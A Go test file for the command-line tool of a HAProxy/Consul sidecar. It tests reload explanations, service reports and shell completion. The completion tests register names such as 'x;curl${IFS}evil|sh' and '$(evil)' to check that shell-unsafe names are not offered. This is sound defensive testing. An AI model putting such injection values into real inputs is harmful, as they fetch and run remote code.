package cli

import (
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	capi "github.com/hashicorp/consul/api"

	"github.com/pointsman/pointsman/registrator/sidecarapi"
	"github.com/pointsman/pointsman/sidecar/internal/config"
	"github.com/pointsman/pointsman/sidecar/internal/consultest"
	"github.com/pointsman/pointsman/sidecar/internal/daemon"
	"github.com/pointsman/pointsman/sidecar/internal/deploy"
	"github.com/pointsman/pointsman/sidecar/internal/event"
	"github.com/pointsman/pointsman/sidecar/internal/history"
	"github.com/pointsman/pointsman/sidecar/internal/plan"
	"github.com/pointsman/pointsman/sidecar/internal/reconcile"
)

func TestExplainReload_EachWait_IsSaidWithItsEnd(t *testing.T) {
	due := reconcile.ReloadState{Pending: string(plan.SlotsExhausted)}
	after := func(change func(*reconcile.ReloadState)) reconcile.ReloadState {
		r := due
		change(&r)
		return r
	}
	for name, c := range map[string]struct {
		reloads reconcile.ReloadState
		want    []string
	}{
		"none due":    {reconcile.ReloadState{}, []string{"none due", "none since the sidecar started", "0 succeeded, 0 failed"}},
		"old workers": {after(func(r *reconcile.ReloadState) { r.WaitsFor = "old workers" }), []string{"due, slots_exhausted: an instance has no free slot", "old workers (3 with 64 MiB when they were last counted): they end", "hard_stop_after"}},
		"an interval": {after(func(r *reconcile.ReloadState) { r.NotBefore = noon.Add(time.Second) }), []string{"until 2026-", "reload.min_interval"}},
		"a failure": {after(func(r *reconcile.ReloadState) {
			r.NotBefore, r.Error, r.Failed = noon.Add(time.Minute), "line 7: unknown\x1b[2J", 2
		}), []string{"because the last one failed", "line 7: unknown·[2J", "0 succeeded, 2 failed"}},
		"under way": {after(func(r *reconcile.ReloadState) { r.UnderWay = true }), []string{"nothing: it is under way"}},
		"a backend": {after(func(r *reconcile.ReloadState) {
			r.For = []plan.ReloadCause{{Backend: "shop", Why: "profile web has sticky.cookie"}}
			r.LastFor = []plan.ReloadCause{{Backend: "cart", Why: "HAProxy: \x1b[2Jtaken"}}
			r.Last = noon
		}), []string{"backend shop, not at runtime: profile web has sticky.cookie", "backend cart, not at runtime: HAProxy: ·[2Jtaken"}},
		"an operator's request": {after(func(r *reconcile.ReloadState) {
			r.Pending = string(plan.Requested)
		}), []string{"due, requested: an operator asked for it", "by bob·[2J at 2026-11-29T12:00:00Z: failed: line 7", "by ann@lb0 at 2026-11-29T12:00:00Z: under way\n"}},
		"the loop": {due, []string{"the next look at HAProxy"}},
	} {
		t.Run(name, func(t *testing.T) {
			s := &reconcile.State{Reloads: c.reloads}
			if c.reloads.Pending == string(plan.Requested) {
				s.ReloadRequests = []reconcile.ReloadRequest{{By: "bob\x1b[2J", At: noon, Status: reconcile.RequestFailed, Error: "line 7"}, {By: "ann@lb0", At: noon, Status: reconcile.RequestUnderWay}}
			}
			s.HAProxy = reconcile.HAProxyState{Running: true, OldWorkers: 3, OldWorkersMemory: 64 << 20}
			var out strings.Builder
			events := []event.Event{{Kind: event.ServerUp, Server: "api-1"}, {Kind: event.ReloadDone, Reason: "service_added"}}
			if err := explainReload(&out, s, events, noon); err != nil {
				t.Fatal(err)
			}
			for _, want := range append(c.want, "reload done: service added") {
				if !strings.Contains(out.String(), want) {
					t.Errorf("want %q in\n%s", want, out.String())
				}
			}
			if strings.Contains(out.String(), "server up") {
				t.Errorf("an event that is no reload is shown:\n%s", out.String())
			}
		})
	}
}

func TestCheck_ReloadIsDue_SaysWhyNotAtRuntime(t *testing.T) {
	got := reloadNote(reconcile.ReloadState{
		Pending: string(plan.ServiceAdded), Error: "line 7",
		For: []plan.ReloadCause{{Backend: "shop", Why: "HAProxy: \x1b[2Jtaken"}},
	})
	want := "due, service_added: HAProxy has no backend for a service that was added\nbackend shop, not at runtime: HAProxy: ·[2Jtaken\nthe last one failed: line 7"
	if len(got) != 1 || !got[0].OK || got[0].Note != want {
		t.Errorf("got %+v, want %q", got, want)
	}
	if got := reloadNote(reconcile.ReloadState{}); got != nil {
		t.Errorf("none is due: got %+v", got)
	}
}

func TestExplainReload_EveryReason_HasWords(t *testing.T) {
	for _, r := range plan.ReloadReasons {
		if reloadReasons[r] == "" {
			t.Errorf("reload reason %q has no words", r)
		}
	}
}

func TestExplainService_WhatIsWrong_IsListed(t *testing.T) {
	svc := reconcile.ServiceState{
		Name: "api", Backend: "api_nodes", Known: true, Answered: noon,
		Guard:    reconcile.GuardState{Held: []string{"api-9"}, Since: noon, Until: noon.Add(time.Hour)},
		Rejected: []reconcile.RejectedState{{ID: "api-8", Node: "n\x1b1", Error: "address 127.0.0.1 refused"}},
	}
	for range maxListed + 2 {
		svc.Instances = append(svc.Instances, reconcile.InstanceState{ID: "api-1", Server: "api-1", Phase: reconcile.PhaseDown, Reason: "HAProxy's check fails: L7STS 503"})
	}
	svc.Instances = append(svc.Instances, reconcile.InstanceState{ID: "api-2", Server: "api-2", Phase: reconcile.PhaseUp, Admin: "ready", Weight: 1})
	other := reconcile.ServiceState{Name: "shop", Backend: "shop", Known: true}
	s := daemon.JudgedState{State: &reconcile.State{Services: []reconcile.ServiceState{svc, other}}}
	s.HAProxy.Running = true
	s.Verdict = s.State.Verdict()
	if !keepService(&s, "api") {
		t.Fatal("api is not there")
	}
	events := []event.Event{{Kind: event.ServerDown, Backend: "api_nodes", Server: "api-1", Instance: "api-1", At: noon}, {Kind: event.ServerUp, Backend: "shop", Server: "shop-1"}}
	var out strings.Builder
	if err := explainServices(&out, s, events, map[string]sidecarapi.Answers{"api_nodes": {Status4xx: 9, Service4xx: 8, Status5xx: 7, Service5xx: 3, NoServer: 2, Broken: 1, Denied: 4}}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"api, backend api_nodes", "1 of 13 servers take traffic", "holds 1 servers since", "guard release api", "no traffic  api-1: HAProxy's check fails: L7STS 503",
		"2 more: `pointsman status api`", `api-8 on "n\x1b1": address 127.0.0.1 refused`, "degraded", "api-1 server down",
		"5xx         7, of these 3 by servers that are there now; by HAProxy: no server up, queue or connection 2, answer broken or late 1\n",
		"4xx         9, of these 8 by servers that are there now; denied by HAProxy's rules, with any status: 4\n",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("want %q in\n%s", want, out.String())
		}
	}
	if strings.Contains(out.String(), "shop") {
		t.Errorf("another service is shown:\n%s", out.String())
	}
}

func TestExplain_InstanceInTwoBackends_IsExplainedInBoth(t *testing.T) {
	s := sampleState()
	up := s.Services[0].Instances[1]
	s.Services = []reconcile.ServiceState{
		{Name: "pg", Backend: "pg-primary", Known: true, Instances: []reconcile.InstanceState{up}},
		{Name: "pg", Backend: "pg-replica", Known: true, Instances: []reconcile.InstanceState{up}},
	}
	var out strings.Builder
	if err := explain(&out, s, nil, nil, "pg/api-2"); err != nil || !strings.Contains(out.String(), "pg-primary/api-2 at") || !strings.Contains(out.String(), "pg-replica/api-2 at") {
		t.Errorf("got %v and\n%s", err, out.String())
	}
	// Two nodes have an instance of the same ID.
	other := up
	other.Node, other.Server, other.Addr = "n2", "api-2-f00", "10.0.0.3:80"
	s.Services[1].Instances[0] = other
	if err := explain(&out, s, nil, nil, "api-2"); err == nil || !strings.HasSuffix(err.Error(), ":\npg-primary/api-2 at 10.0.0.2:80\npg-replica/api-2-f00 at 10.0.0.3:80, instance api-2 on n2") {
		t.Errorf("two nodes: got %v", err)
	}
	// And of servers that Consul does not list, each is another.
	for i := range s.Services {
		s.Services[i].Instances[0] = reconcile.InstanceState{Server: "slot-1", Addr: "10.0.0.9:80"}
	}
	if err := explain(&out, s, nil, nil, "slot-1"); err == nil || !strings.Contains(err.Error(), "pg-replica/slot-1") {
		t.Errorf("two slots: got %v", err)
	}
}

func TestCompletion_NamesOfTheState_AreOfferedIfAShellTakesThem(t *testing.T) {
	s := sampleState()
	evil := s.Services[0].Instances[1]
	evil.ID, evil.Server = "x;curl${IFS}evil|sh", "$(evil)"
	s.Services[1].Instances = append(s.Services[1].Instances, evil)
	twin := s.Services[0].Instances[1]
	twin.Node, twin.Server = "n2", "api-2-f00"
	s.Services[1].Instances = append(s.Services[1].Instances, twin)
	s.Services = slices.Insert(s.Services, 1, reconcile.ServiceState{Name: "api", Backend: "b_api.preview", Known: true, Instances: s.Services[0].Instances[:1]})
	at := serveState(t, func() *reconcile.State { return s })
	complete := func(at, args string) string {
		var out strings.Builder
		line := append([]string{"__complete", "--config", settingsFile(t, "services: [{name: api}]\napi: {address: "+at+"}\n")}, strings.Fields(args)...)
		Run(t.Context(), Env{Args: append(line, ""), Hostname: "lb0", Stdout: &out, Stderr: io.Discard})
		return out.String()
	}
	for args, want := range map[string]string{
		"explain server": "api-1\nb_api/api-2\nmail/m\nmail/api-2-f00\n:4\n",
		"drain":          "api-1\nb_api/api-2\nmail/m\nmail/api-2-f00\n:4\n",
		"status":         "api\nmail\n:4\n",
		"status api":     ":4\n",
	} {
		if out := complete(at, args); out != want {
			t.Errorf("%s: got %q, want %q", args, out, want)
		}
	}
	if out := complete(by("127.0.0.1:1", ""), "status"); out != ":4\n" {
		t.Errorf("no sidecar: got %q", out)
	}
}

// Commands that run without a sidecar are completed with what Consul has: services to
// deploy or to share, rollouts that allow the change, deployments that are recorded.
func TestCompletion_ServicesInConsul_AreOfferedWhereTheCommandTakesThem(t *testing.T) {
	consul := consultest.StartProcess(t)
	client, err := capi.NewClient(&capi.Config{Address: consul.Address(), Scheme: "http"})
	if err != nil {
		t.Fatal(err)
	}
	for i, name := range []string{"api", "api", "web", "x;curl${IFS}evil|sh", "pointsman-sidecar"} {
		r := &capi.AgentServiceRegistration{ID: fmt.Sprint("i", i), Name: name, Address: "127.0.0.1", Port: 80 + i, Meta: map[string]string{"version": fmt.Sprintf("1.%d", i)}}
		if err := client.Agent().ServiceRegister(r); err != nil {
			t.Fatal(err)
		}
	}
	run := func(args string) string {
		t.Helper()
		var out strings.Builder
		Run(t.Context(), Env{Args: strings.Split(args, " "), Environ: []string{"CONSUL_HTTP_ADDR=" + consul.Address()}, Hostname: "lb0", Stdout: &out, Stderr: io.Discard})
		return out.String()
	}
	run("rollout set api 1.0=100 1.1=0")
	run("rollout start api --canary 1.1 --stable 1.0 --steps 20,100")
	run("rollout set web 1.0=100 1.1=0")
	cfg := config.Config{}
	cfg.Consul.Address, cfg.Consul.Wait = consul.Address(), time.Minute
	book, err := daemon.NewBook(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(book.KV.Close)
	for service, old := range map[string]string{"web": "1.0", "first": ""} {
		_, entry, err := book.Begin(t.Context(), history.Deployment{ID: "x", Service: service, Version: "1.1", Started: noon})
		if err == nil {
			entry.Begins(deploy.Step{Name: "start"})
			err = entry.End(t.Context(), deploy.Result{Outcome: deploy.Deployed, OldVersion: old})
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for args, want := range map[string]string{
		"rollout set ": "api\nweb\n:4\n", "rollout start ": "api\nweb\n:4\n", "rollout set api ": ":4\n",
		"rollout promote ": "api\nweb\n:4\n", "rollout abort ": "api\nweb\n:4\n",
		"rollout resume ": ":4\n", "rollout end ": ":4\n",
		"rollout status ": "api\nweb\n:4\n", "rollout history ": "api\nweb\n:4\n",
		"deploy --service ": "api\nweb\n:4\n", "deploy status --service ": "first\nweb\n:4\n", "deploy undo --service ": "web\n:4\n",
	} {
		if out := run("__complete " + args); out != want {
			t.Errorf("%q: got %q, want %q", args, out, want)
		}
	}
}
